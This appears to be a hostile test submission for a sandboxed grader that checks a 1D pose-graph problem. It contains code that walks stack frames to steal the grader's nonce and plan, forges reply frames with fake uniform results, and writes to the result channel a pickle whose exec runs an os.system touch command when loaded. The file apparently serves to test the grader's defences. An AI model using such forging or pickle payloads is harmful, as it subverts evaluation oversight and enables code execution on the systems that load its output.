# expect: residual=passed jacobian=error information_matrix=error others=missing; 24: sends a pickle that would write a file if anybody loaded it.
# attack: forging; unlocked fails: the channel is checked by the grader, whatever is locked.
import os
import sys

import numpy as np


def residual(x, graph):  # the honest part
    i, j = graph.edges.T
    return np.concatenate([x[i] + graph.measurements - x[j], x[graph.priors] - graph.prior_means])


frames = sys.modules["sandbox.frames"]
array = sys.modules["array"].array


def asked():
    """Find the nonce of the request and the plan of its calls in the frames above."""
    frame = sys._getframe(1)
    while "nonce" not in frame.f_locals or "plan" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["nonce"], frame.f_locals["plan"]


def forged(nonce, plan):
    """Make a reply of the right form, in which every value is one number."""
    values = len(plan.cases) * plan.parts
    sizes, data = array("q", [1] * values).tobytes(), array("d", [7.5] * values).tobytes()
    zeros = bytes(len(plan.cases)), bytes(values)
    return frames.pack(frames.BatchReport(nonce, *zeros, bytes([1]) * values, sizes, data, {}, -1))


PICKLE = b"cbuiltins\nexec\n(V__import__('os').system('touch /tmp/slam1d-hostile-24')\ntR."


def jacobian(x, graph):
    os.write(3, len(PICKLE).to_bytes(4, "little") + PICKLE)
    return np.full((graph.n_factors, graph.n_poses), 7.5)


def information_matrix(graph):
    nonce, plan = asked()
    frame = sys.modules["msgspec"].msgpack.encode(["results", nonce, PICKLE, PICKLE, PICKLE, PICKLE, PICKLE, {}, -1])
    os.write(3, len(frame).to_bytes(4, "little") + frame)
    return np.full((graph.n_factors, graph.n_factors), 7.5)
